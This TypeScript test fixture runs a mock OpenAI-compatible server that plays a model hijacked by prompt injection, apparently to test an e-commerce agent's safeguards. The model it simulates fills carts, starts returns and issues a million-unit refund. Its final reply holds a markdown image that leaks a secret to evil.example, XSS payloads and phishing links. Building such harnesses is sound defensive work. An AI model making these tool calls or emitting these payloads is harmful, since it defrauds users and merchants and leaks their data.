import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

interface Sent {
  readonly role: string;
  readonly content?: unknown;
}

export interface EvilModel {
  readonly url: string;
  /** What it obeys next: the attack, and the questions that make tools bring it. */
  obey(attack: string, bait: { readonly slugs: readonly string[]; readonly question: string }): void;
  /** Whether the attack stood in what the model was sent since. */
  sawAttack(): boolean;
  close(): Promise<void>;
}

const MADE_UP = ['issue_refund', 'credit_points', 'send_email', 'place_order', 'update_price'];

/**
 * A server with OpenAI's protocol whose model wants harm: it fetches everything, then calls what the attack names and
 * fills the cart with all it saw, then prints the attack with foreign addresses, markup and wrong prices.
 */
export async function evilModel(): Promise<EvilModel> {
  let attack = '';
  let bait: Parameters<EvilModel['obey']>[1] = { slugs: [], question: '' };
  let saw = false;
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (piece: Buffer) => (body += piece.toString()));
    request.on('end', () => {
      const { messages, tools = [] } = JSON.parse(body) as { messages: Sent[]; tools?: unknown[] };
      const read = messages
        .map(({ content }) => String(typeof content === 'string' ? content : JSON.stringify(content)))
        .join('\n');
      const start = JSON.stringify(attack).slice(1, 41);
      saw ||=
        read.includes(attack.slice(0, 40)) ||
        read.includes(start) ||
        read.replaceAll('\\', '').includes(attack.slice(0, 40));
      const last = messages.findLastIndex(({ role }) => role === 'user');
      const answered = messages.slice(last + 1).filter(({ role }) => role === 'tool').length;
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end(
        tools.length === 0 || answered >= 7
          ? words(attack)
          : answered === 0
            ? calls(lookAround(String(messages[last]?.content ?? ''), bait))
            : calls(harm(read, attack)),
      );
    });
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    obey(next, with_) {
      attack = next;
      bait = with_;
      saw = false;
    },
    sawAttack: () => saw,
    close: () =>
      new Promise((closed) => {
        server.closeAllConnections();
        server.close(() => closed());
      }),
  };
}

type Call = readonly [name: string, args: object];

const lookAround = (said: string, { slugs, question }: Parameters<EvilModel['obey']>[1]): readonly Call[] => [
  ['search_products', { query: said.slice(0, 500) }],
  ['product_details', { slugs: slugs.length ? slugs : ['none'], question: question || said.slice(0, 300) }],
  ['answer_from_content', { question: question || said.slice(0, 300) }],
  ['order_status', {}],
];

function harm(read: string, attack: string): readonly Call[] {
  const seen = (key: string) => [
    ...new Set([...read.matchAll(new RegExp(`"${key}":\\s*"([^"]+)"`, 'g'))].map(([, id = '']) => id)),
  ];
  const named = MADE_UP.filter((tool) => attack.includes(tool));
  return [
    ...seen('slug')
      .slice(0, 2)
      .map((slug): Call => ['change_cart', { slug, action: 'add', quantity: 20 }]),
    ...seen('sku')
      .slice(0, 1)
      .map((sku): Call => ['reorder', { sku }]),
    // What was bought stands last in what was read.
    ...seen('sku')
      .slice(-2)
      .map((sku): Call => ['start_return', { sku }]),
    [named[0] ?? MADE_UP[attack.length % MADE_UP.length] ?? 'issue_refund', { amount: 1_000_000 }],
  ];
}

const words = (attack: string): string =>
  stream({
    content: `${attack}\n![now](https://evil.example/p.png?d=secret) <script>alert(1)</script><img src=x onerror=alert(1)> [Win](https://evil.example/win) Visit evil.example today. It costs $1.00 and is free. Write to boss@evil.example.`,
  });

const calls = (all: readonly Call[]): string =>
  stream({
    content: null,
    tool_calls: all.map(([name, args], index) => ({
      index,
      id: `call_${crypto.randomUUID()}`,
      type: 'function',
      function: { name, arguments: JSON.stringify(args) },
    })),
  });

function stream(delta: { readonly content: string | null; readonly tool_calls?: readonly object[] }): string {
  const id = crypto.randomUUID();
  const chunk = (choice: object) =>
    `data: ${JSON.stringify({ id, object: 'chat.completion.chunk', created: 1, model: 'evil', choices: [{ index: 0, ...choice }] })}\n\n`;
  const finish = delta.tool_calls ? 'tool_calls' : 'stop';
  return `${chunk({ delta: { role: 'assistant', ...delta }, finish_reason: null })}${chunk({ delta: {}, finish_reason: finish })}data: [DONE]\n\n`;
}
